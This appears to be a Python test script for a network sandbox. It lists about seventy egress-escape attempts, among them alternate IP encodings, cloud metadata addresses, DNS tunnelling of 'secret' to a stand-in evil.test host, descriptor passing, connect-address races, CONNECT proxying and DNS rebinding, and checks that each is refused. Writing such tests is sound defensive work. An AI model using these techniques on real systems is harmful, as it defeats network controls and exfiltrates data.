# SPDX-License-Identifier: MIT
"""Ways out of a box that may connect to web.test:80 and nothing else. One row each: its name, where the
attempt must be found afterwards (egress: among the attempts; else the refused call's name; quiet: a
call that libraries try and do without, so it is refused and not told), and what it does. It prints a
line for each: the name, and "reached" with what it got or why it failed. Run in tests/egress/world."""

import array
import ctypes
import os
import socket
import struct
import sys
import threading
import time

NEAR, FAR = "203.0.113.2", "203.0.113.3"  # web.test, and another
FASTOPEN = 0x20000000
libc = ctypes.CDLL(None, use_errno=True)


def talk(s):
    """What the other side says, if there is one."""
    s.settimeout(1)
    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
    return s.recv(100)


def dial(host, port, family=socket.AF_INET):
    with socket.socket(family) as s:
        s.settimeout(2)
        s.connect((host, port))
        return talk(s)


def by_text(text, port=80):
    return dial(socket.getaddrinfo(text, port, type=socket.SOCK_STREAM)[0][4][0], port)


def udp(call):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        call(s)
        return s.recv(100)


QUERY = b"\0\7\1\0\0\1\0\0\0\0\0\0\3web\4test\0\0\1\0\1"


def fastopen(send):
    with socket.socket() as s:
        send(s)
        return talk(s)


def sendmmsg(s, host=FAR, port=80, text=b"x", flags=FASTOPEN):
    data = ctypes.create_string_buffer(text)
    name = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8))
    iov = (ctypes.c_void_p * 2)(ctypes.addressof(data), len(text))
    header = struct.pack("PIxxxxPLPLixxxxI", ctypes.addressof(name), 16, ctypes.addressof(iov), 1, 0, 0, 0, 0)
    message = ctypes.create_string_buffer(header, 64)
    checked(libc.sendmmsg(s.fileno(), message, 1, flags))


def option(level, name, value):
    with socket.socket() as s:
        s.setsockopt(level, name, value)
        s.connect((FAR, 80))
        return talk(s)


def made(*args):
    with socket.socket(*args) as s:
        return b"a socket of %d" % s.family


def listen():
    with socket.socket() as s:
        s.listen()
        return b"%d" % s.getsockname()[1]


def bind_and_listen():
    with socket.socket() as s:
        try:
            s.bind(("0.0.0.0", 18099))
        except OSError:
            pass
        s.listen()
        return b"%d" % s.getsockname()[1]


def local(address):
    with socket.socket(socket.AF_UNIX) as s:
        s.connect(address)
        return b"connected"


def passed():
    """A socket that another process connects."""
    a, b = socket.socketpair()
    if os.fork() == 0:
        _, extra, _, _ = b.recvmsg(1, socket.CMSG_SPACE(4))
        with socket.socket(fileno=array.array("i", extra[0][2])[0]) as s:
            try:
                s.connect((FAR, 80))
                b.send(b"reached")
            except OSError as e:
                b.send(e.strerror.encode())
        os._exit(0)
    with socket.socket() as s:
        a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
        answer = a.recv(100)
    os.wait()
    if answer != b"reached":
        raise OSError(answer.decode())
    return answer


def passed_connected():
    """A connected socket goes to another process, which takes it elsewhere."""
    a, b = socket.socketpair()
    if os.fork() == 0:
        _, extra, _, _ = b.recvmsg(1, socket.CMSG_SPACE(4))
        with socket.socket(fileno=array.array("i", extra[0][2])[0]) as s:
            b.send(elsewhere(s) or b"stayed")
        os._exit(0)
    with socket.create_connection(("web.test", 80)) as s:
        a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
        answer = a.recv(100)
    os.wait()
    if answer != b"stayed":
        return answer
    dial(FAR, 80)


def elsewhere(s):
    """A connected socket is let go and connected to another host; what that says."""
    there = struct.pack("=H", socket.AF_INET) + struct.pack(">H", 80) + socket.inet_aton(FAR) + bytes(8)
    libc.connect(s.fileno(), bytes(16), 16)
    libc.connect(s.fileno(), there, 16)
    return talk(s) if s.getpeername()[0] == FAR else None


def splice(s):
    """Bytes from a pipe, by no call of a socket."""
    out, into = os.pipe()
    os.write(into, b"x")
    return b"%d" % checked(libc.splice(out, None, s.fileno(), None, 1, 0))


def vmsplice(s):
    data = ctypes.create_string_buffer(b"x")
    iov = (ctypes.c_void_p * 2)(ctypes.addressof(data), 1)
    return b"%d" % checked(libc.vmsplice(os.pipe()[1], iov, 1, 0))


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def with_allowed(use):
    with socket.create_connection(("web.test", 80)) as s:
        return use(s)


def asked(name):
    """The resolver, by its own words: NAME is the labels as they go over the wire."""
    return udp_answer(b"\0\7\1\0\0\1\0\0\0\0\0\0" + name + b"\0\0\1\0\1")


def race():
    """One thread connects, another changes the address meanwhile."""
    good = struct.pack("=H", socket.AF_INET) + struct.pack(">H", 80) + socket.inet_aton(socket.gethostbyname("web.test")) + bytes(8)
    bad = struct.pack("=H", socket.AF_INET) + struct.pack(">H", 80) + socket.inet_aton(FAR) + bytes(8)
    memory = ctypes.create_string_buffer(good, 16)
    over, met = threading.Event(), set()

    def change():
        while not over.is_set():
            memory[:] = bad
            memory[:] = good

    threading.Thread(target=change, daemon=True).start()
    end = time.monotonic() + 1
    while time.monotonic() < end:
        with socket.socket() as s:
            if libc.connect(s.fileno(), memory, 16) == 0:
                met.add(s.getpeername()[0])
    over.set()
    with socket.socket() as s:      # after losing all races it is refused
        if libc.connect(s.fileno(), bad, 16) == 0:
            met.add(s.getpeername()[0])
    if met <= {NEAR}:
        raise OSError("only %s" % sorted(met))
    return b"%r" % met


def swap():
    """The number is now a local socket, now one of TCP."""
    path = "/tmp/swap.%d" % os.getpid()
    server = socket.socket(socket.AF_UNIX)
    server.bind(path)
    server.listen(512)

    def serve():
        while True:
            server.accept()[0].close()

    threading.Thread(target=serve, daemon=True).start()
    over, met = threading.Event(), set()
    place = socket.socket(socket.AF_UNIX)
    n = place.fileno()
    bad = struct.pack("=H", socket.AF_INET) + struct.pack(">H", 80) + socket.inet_aton(FAR) + bytes(8)
    un = struct.pack("=H", socket.AF_UNIX) + path.encode() + b"\0"

    def change():
        while not over.is_set():
            for family in (socket.AF_INET, socket.AF_UNIX):
                with socket.socket(family) as s:
                    os.dup2(s.fileno(), n)

    threading.Thread(target=change, daemon=True).start()
    end = time.monotonic() + 1
    while time.monotonic() < end:
        for address in (bad, un):
            libc.connect(n, address, len(address))
        try:
            with socket.socket(fileno=os.dup(n)) as s:
                if s.family == socket.AF_INET:
                    met.add(s.getpeername()[0])
        except OSError:
            pass
    over.set()
    with socket.socket() as s:      # as above
        if libc.connect(s.fileno(), bad, 16) == 0:
            met.add(s.getpeername()[0])
    if not met:
        raise OSError("no race was won")
    return b"%r" % met


def again():
    """Connected, disconnected, and connected to another host."""
    with socket.create_connection(("web.test", 80)) as s:
        got = elsewhere(s)
        if got:
            return got
    dial(FAR, 80)


def rebound():
    """A name that was good a while ago. Its address is another one now."""
    dial("rebind.test", 80)
    time.sleep(6)
    return dial("rebind.test", 80)


def tunnel():
    return b"%r" % (socket.getaddrinfo("c2VjcmV0.evil.test", 80),)


def text_record():
    """The resolver of the box, asked for a text of a name with a message in it."""
    return udp_answer(b"\0\7\1\0\0\1\0\0\0\0\0\0\6secret\3web\4test\0\0\20\0\1")


def udp_answer(query):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(query, ("127.0.0.53", 53))
        answer = s.recv(512)
    if answer[3] & 15 == 3:
        raise OSError("no such name")
    return answer


def proxy():
    """The allowed server is asked to go on to another."""
    with socket.create_connection(("web.test", 80)) as s:
        s.settimeout(2)
        s.sendall(b"CONNECT 203.0.113.3:22 HTTP/1.1\r\nHost: x\r\n\r\n")
        answer = s.recv(200)
    if b"SSH" in answer or b" 200 " in answer:
        return answer
    dial(FAR, 22)


def uring():
    checked(libc.syscall(425, 8, ctypes.create_string_buffer(256)))
    return b"a ring"


IP, TCP, SOL = socket.IPPROTO_IP, socket.IPPROTO_TCP, socket.SOL_SOCKET
ATTEMPTS = [
    ("ip-of-the-allowed-host", "egress", lambda: dial(NEAR, 80)),
    ("ip-of-another", "egress", lambda: dial(FAR, 80)),
    ("ip-decimal", "egress", lambda: by_text("3405803778")),
    ("ip-hex", "egress", lambda: by_text("0xcb007102")),
    ("ip-octal", "egress", lambda: by_text("0313.0.0161.02")),
    ("ip-short", "egress", lambda: by_text("203.0.28930")),
    ("ip-mapped", "egress", lambda: dial("::ffff:" + NEAR, 80, socket.AF_INET6)),
    ("ip-compatible", "egress", lambda: dial("::" + NEAR, 80, socket.AF_INET6)),
    ("ip-nat64", "egress", lambda: dial("64:ff9b::" + NEAR, 80, socket.AF_INET6)),
    ("ip-6to4", "egress", lambda: dial("2002:cb00:7102::1", 80, socket.AF_INET6)),
    ("ip6", "egress", lambda: dial("2001:db8:77::2", 80, socket.AF_INET6)),
    ("ip-any", "egress", lambda: dial("0.0.0.0", 80)),
    ("ip-loopback", "egress", lambda: dial("127.0.0.1", 22)),
    ("ip-metadata", "egress", lambda: dial("169.254.169.254", 80)),
    ("ip-metadata-azure", "egress", lambda: dial("168.63.129.16", 80)),
    ("ip-stand-in-of-nobody", "egress", lambda: dial("198.18.77.77", 80)),
    ("another-port", "egress", lambda: dial("web.test", 22)),
    ("another-name", "egress", lambda: dial("other.test", 80)),
    ("name-in-between", "egress", lambda: dial("web.test.other.test", 80)),
    ("name-in-capitals", "egress", lambda: dial("OTHER.TEST", 80)),
    ("name-with-a-last-dot", "egress", lambda: dial("other.test.", 80)),
    ("name-that-looks-alike", "egress", lambda: dial("w\u0435b.test", 80)),
    ("name-as-xn", "egress", lambda: dial("xn--wb-dlc.test", 80)),
    ("name-in-one-label", "egress", lambda: asked(b"\x08web.test")),
    ("name-with-nul-inside", "egress", lambda: asked(b"\3web\x09test\0evil")),
    ("name-not-of-letters", "egress", lambda: asked(b"\4w\xc3\xa9b\4test")),
    ("name-cname-private", "egress", lambda: dial("cname.test", 80)),
    ("dns-tunnel", "egress", tunnel),
    ("dns-tunnel-text", "egress", text_record),
    ("dns-direct-udp", "sendto", lambda: udp(lambda s: s.sendto(QUERY, (NEAR, 53)))),
    ("dns-direct-tcp", "egress", lambda: dial(NEAR, 53)),
    ("udp-connect", "egress", lambda: udp(lambda s: (s.connect((NEAR, 53)), s.send(QUERY)))),
    ("udp-sendmsg-name", "sendto", lambda: udp(lambda s: s.sendmsg([QUERY], [], 0, (NEAR, 53)))),
    ("udp-sendmmsg-names", "sendto", lambda: udp(lambda s: sendmmsg(s, NEAR, 53, QUERY, 0))),
    ("icmp", "socket", lambda: made(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)),
    ("icmp-raw", "socket", lambda: made(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
    ("packet", "socket", lambda: made(socket.AF_PACKET, socket.SOCK_RAW)),
    ("mptcp", "socket", lambda: made(socket.AF_INET, socket.SOCK_STREAM, 262)),
    ("sctp", "socket", lambda: made(socket.AF_INET, socket.SOCK_STREAM, 132)),
    ("vsock", "socket", lambda: made(socket.AF_VSOCK, socket.SOCK_STREAM)),
    ("netlink", "socket", lambda: made(socket.AF_NETLINK, socket.SOCK_RAW, 12)),
    ("fastopen-sendto", "sendto", lambda: fastopen(lambda s: s.sendto(b"x", FASTOPEN, (FAR, 80)))),
    ("fastopen-sendmsg", "sendmsg", lambda: fastopen(lambda s: s.sendmsg([b"x"], [], FASTOPEN, (FAR, 80)))),
    ("fastopen-sendmmsg", "sendmmsg", lambda: fastopen(sendmmsg)),
    ("fastopen-connect", "setsockopt", lambda: option(TCP, 30, 1)),
    ("tcp-ulp", "setsockopt", lambda: option(TCP, 31, b"tls")),
    ("bind-to-device", "setsockopt", lambda: option(SOL, 25, b"near\0")),
    ("freebind", "setsockopt", lambda: option(IP, 15, 1)),
    ("transparent", "setsockopt", lambda: option(IP, 19, 1)),
    ("mark", "setsockopt", lambda: option(SOL, 36, 1)),
    ("hops", "setsockopt", lambda: option(IP, 21, 0)),
    ("linger", "setsockopt", lambda: option(SOL, 13, struct.pack("ii", 1, 0))),
    ("listen", "listen", listen),
    ("bind-and-listen", "listen", bind_and_listen),
    ("unix-path", "connect", lambda: local("/run/dbus/system_bus_socket")),
    ("unix-like-nscd", "connect", lambda: local("/var/run/nscd/")),
    ("unix-abstract", "connect", lambda: local("\0cordon-test-host")),
    ("io-uring", "io_uring_setup", uring),
    ("passed-descriptor", "egress", passed),
    ("passed-connection", "egress", passed_connected),
    ("splice", "quiet", lambda: with_allowed(splice)),
    ("vmsplice", "vmsplice", lambda: with_allowed(vmsplice)),
    ("race-of-the-address", "egress", race),
    ("race-of-the-number", "egress", swap),
    ("connect-again", "egress", again),
    ("proxy", "egress", proxy),
    ("rebinding", "egress", rebound),
]

if __name__ == "__main__":
    for name, where, attempt in ATTEMPTS:
        if len(sys.argv) > 1 and name not in sys.argv[1:]:
            continue
        try:
            print(name, where, "reached", attempt(), flush=True)
        except (OSError, UnicodeError) as e:
            print(name, where, "failed:", e, flush=True)
